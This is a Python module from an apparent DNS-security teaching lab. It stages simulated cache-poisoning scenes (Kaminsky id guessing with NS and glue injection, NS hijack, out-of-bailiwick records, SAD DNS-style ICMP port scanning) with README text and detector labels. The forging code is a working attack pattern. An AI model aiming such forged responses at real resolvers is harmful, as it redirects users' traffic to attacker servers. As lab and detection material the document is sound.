"""Forgers who do not see the query, and what they bring with an answer."""

import random
import struct

from rrlab import forge, message, packets
from rrlab.capture import FILTER
from rrlab.message import QR
from rrlab.scene import Scene
from .watched import EVIL, EVIL_HOST, OPEN, on_first, query_for

ROUNDS, GUESSES = 15, 20                # 300 answers
LABELS = [f"r{n:02d}x" for n in random.Random(5).sample(range(100), ROUNDS)]
# As resolvers were in 2008: all queries leave from one port.
ONE_PORT = ("  outgoing-port-avoid: 0-65535\n"
            "  outgoing-port-permit: 5300\n")


def guess(query, ident):
    """One guess: an address for the random name, and another server for the
    whole zone, ns.shop.test.  Names are compressed: there are many."""
    label = message.parse(query.payload).question[0]
    zone = struct.pack("!H", 0xC000 + 12 + 1 + label)
    host = b"\2ns" + zone
    authority = [message.record(zone, "NS", host, 86400)]
    additional = [message.record(host, "A", EVIL, 86400)]
    return forge.answer(query, forge.addresses(EVIL, ttl=86400),
                        authority=authority, additional=additional,
                        ident=ident, ttl=51)


def guesses(query, chance, hit):
    """The ids of one round; with hit, the right one is among them."""
    right = message.parse(query.payload).ident
    found = forge.wrong_ids(right, GUESSES, chance)
    if hit:
        found[GUESSES // 2] = right
    return found


def kaminsky(success):
    """A play: rounds of guesses, each for the query of another name."""
    def play(stage):
        chance = random.Random(11)
        up = stage.network.up

        def attack(packet, qname, hit):
            query = query_for(packet, qname)
            if query:
                for place, ident in enumerate(guesses(query, chance, hit)):
                    up.forge(guess(query, ident), 0.004 + 0.0005 * place)
        stage.baseline(OPEN.name, 1, 12)
        for turn, label in enumerate(LABELS):
            name = f"{label}.{OPEN.name}"
            hit = success and turn == ROUNDS - 1
            up.on_query = lambda p, n=name, h=hit: attack(p, n, h)
            stage.ask(name)
        up.pass_all()
        if success:
            stage.resolver.flush()      # the operator gets rid of it
        stage.baseline(OPEN.name, 13, 17)
    return play


def matches(frames):
    """The frame whose id is right, for the README."""
    asked = {(f.message.ident, f.message.question.lower()) for f in frames
             if f.is_query()}
    return {"match": ", ".join(
        str(f.number) for f in frames if f.is_answer()
        and f.datagram.ttl == 51
        and (f.message.ident, f.message.question.lower()) in asked)}


def hijack(stage):
    """The answer is forged to bring NS and glue for the whole zone."""
    def act(query):
        authority, additional = forge.delegation(OPEN.name, EVIL_HOST, EVIL)
        stage.network.up.forge(forge.answer(
            query, forge.addresses(EVIL), authority=authority,
            additional=additional + [message.opt()], ttl=49), 0.008)
    stage.baseline(OPEN.name, 1, 20)
    stage.network.up.on_query = on_first("www.shop.test.", act)
    stage.ask("www.shop.test.")
    stage.resolver.flush()
    stage.baseline(OPEN.name, 21, 28)


def out_of_bailiwick(stage):
    """The server's own answer, with records about others added."""
    def act(query):
        stage.network.up.forge(forge.answer(
            query, forge.addresses("203.0.113.80", ttl=3600),
            authority=[message.record("test.", "NS", EVIL_HOST, 86400)],
            additional=[message.record("www.bank.test.", "A", EVIL),
                        message.record("www.example.", "A", EVIL),
                        message.record(EVIL_HOST, "A", EVIL, 86400),
                        message.opt()], ttl=64), 0.008)
    stage.baseline(OPEN.name, 1, 20)
    stage.network.up.on_query = on_first("www.shop.test.", act)
    stage.ask("www.shop.test.")
    stage.baseline(OPEN.name, 21, 28)


ICMP = 1
PROBES, PACE = 200, 0.005
# BIND waits for the muted server, at one port.
PATIENT = "qname-minimization off; resolver-retry-interval 6000;"


def probe(query, port):
    """An answer to nothing, to find out whether a port is open."""
    payload = message.build(0, QR, message.question("a.test.", "A"))
    return packets.Datagram(query.target, 53, query.source, port, payload,
                            ttl=55)


def ports_around(open_port, chance):
    """The ports to probe: 199 closed ones and the open one near the end."""
    found = chance.sample([n for n in range(20000, 60000)
                           if n != open_port], PROBES)
    found[PROBES - 10] = open_port
    return found


def port_scan(stage):
    """First the ports, then the ids (SAD DNS).  The server is muted."""
    chance = random.Random(17)
    up = stage.network.up

    def act(query):
        right = message.parse(query.payload).ident
        for place, port in enumerate(ports_around(query.source_port, chance)):
            up.forge(probe(query, port), 0.02 + PACE * place)
        for place, ident in enumerate(forge.wrong_ids(right, 40, chance)):
            up.forge(forge.answer(query, forge.addresses(EVIL), ident=ident,
                                  ttl=55),
                     0.02 + PACE * PROBES + 0.1 + 0.002 * place)
    stage.network.run_in(stage.network.resolver, "sysctl", "-q", "-w",
                         "net.ipv4.icmp_ratelimit=0")
    stage.baseline(OPEN.name, 1, 20)
    up.on_query = on_first("www.shop.test.", act)
    up.delay = 1.6
    stage.ask("www.shop.test.")
    up.delay = stage.scene.delay
    stage.baseline(OPEN.name, 21, 28)


def scan_facts(frames):
    """Where the probes and the guesses are, for the README."""
    made = [f for f in frames if f.is_answer() and f.datagram.ttl == 55]
    probes = [f for f in made if f.message.qname == "a.test."]
    ids = [f for f in made if f not in probes]
    unreachable = [f for f in frames if f.packet[0] >> 4 == 4
                   and f.packet[9] == ICMP]
    return {"probes": f"{probes[0].number} to {probes[-1].number}",
            "ids": f"{ids[0].number} to {ids[-1].number}",
            "icmp": str(len(unreachable))}


LESSONS = [
    Scene(
        "spoof-kaminsky", "Guessing ids with random names, in vain",
        """Somebody makes the resolver ask for names that do not exist in
        shop.test. and, not seeing its queries, answers each twenty times
        with another id (300 answers, fifteen bursts
        between frames {first} and {last}).  The resolver is of
        the old kind: all its queries leave from port 5300, so only the id
        must be guessed.  Each guess brings an NS record and an address for
        the whole zone.  None has the right id; the genuine answers are
        frames {genuine}.""",
        """answers to port 5300 with ids that were never sent; the server
        ns.shop.test. in their authority section.""",
        """the bursts in frames {first} to {last} are spoofed: hundreds of ids
        tried on one port (txid-guessing).  None matched a query.""",
        kaminsky(False), [OPEN], ("txid-guessing",), extra=ONE_PORT,
        forged=ROUNDS * GUESSES, race=True),
    Scene(
        "spoof-kaminsky-success", "Guessing ids with random names, and one "
        "is right",
        """As in spoof-kaminsky (bursts between frames {first} and {last}),
        but in the last round one guess, frame {match}, has the right id and
        comes before the genuine NXDOMAIN.  The resolver believes it, and
        with it perhaps the new server of the zone; its cache is emptied
        afterwards.""",
        """frame {match} among the guesses; the genuine answer to the same
        query after them.""",
        """the bursts in frames {first} to {last} are spoofed (txid-guessing);
        frame {match} was
        accepted: two different answers to one query (conflicting-answers),
        and it gives the zone to a server that no earlier answer named
        (promiscuous-ns).""",
        kaminsky(True), [OPEN],
        ("txid-guessing", "conflicting-answers", "promiscuous-ns"),
        extra=ONE_PORT, forged=ROUNDS * GUESSES, facts=matches, race=True),
    Scene(
        "spoof-ns-hijack", "A forged answer brings a server for the zone",
        """The forged answer for www.shop.test. A (frame {forged}) has in its
        authority section another NS record for shop.test., with an address.
        A resolver that believes it sends all further questions about the
        zone there.  The genuine answer is frame {genuine}.  The resolver's
        cache is emptied afterwards.""",
        """the NS record ns.evil.example. against ns1.shop.test. in all
        other answers and in the referral.""",
        """frame {forged} is spoofed: two different answers to one query
        (conflicting-answers), and an NS RRset that differs from the
        delegation and from all earlier answers (promiscuous-ns).""",
        hijack, [OPEN], ("conflicting-answers", "promiscuous-ns"), forged=1,
        race=True),
    Scene(
        "spoof-out-of-bailiwick", "An answer with records about others",
        """The answer section of frame {forged} is what the server itself
        says (frame {genuine}).  But the authority section has an NS record
        for test., which this server does not serve, and the additional
        section addresses for www.bank.test. and www.example.""",
        """the owners of the records in authority and additional section,
        against the zone of the server.""",
        """frame {forged} is spoofed, or its server lies: records for names
        outside of the zone that was asked (out-of-bailiwick), in an answer
        that is not the only one to its query.""",
        out_of_bailiwick, [OPEN], ("out-of-bailiwick",), forged=1, race=True),
    Scene(
        "spoof-icmp-portscan", "A port found by ICMP, then ids guessed",
        """While the server is muted (it answers after 1.6 s), somebody sends
        datagrams in its name to 200 ports of the resolver (frames {probes}).
        All closed ports answer with ICMP port unreachable ({icmp} of them);
        one does not.  To that port go 40 answers with wrong ids (frames
        {ids}), as in SAD DNS.""",
        """the destination ports from source port 53, the ICMP messages in
        between, and the ids after that.  The forged packets have TTL 55.""",
        """frames {ids} are spoofed: ids were guessed (txid-guessing) after
        a scan for the open port with the server's address
        (port-scan-for-dns).  The probes answer nothing and are forged
        too.""",
        port_scan, [OPEN], ("port-scan-for-dns", "txid-guessing"),
        resolver="bind", extra=PATIENT, forged=PROBES + 40,
        facts=scan_facts, wanted=f"{FILTER} or icmp or icmp6", race=True),
]
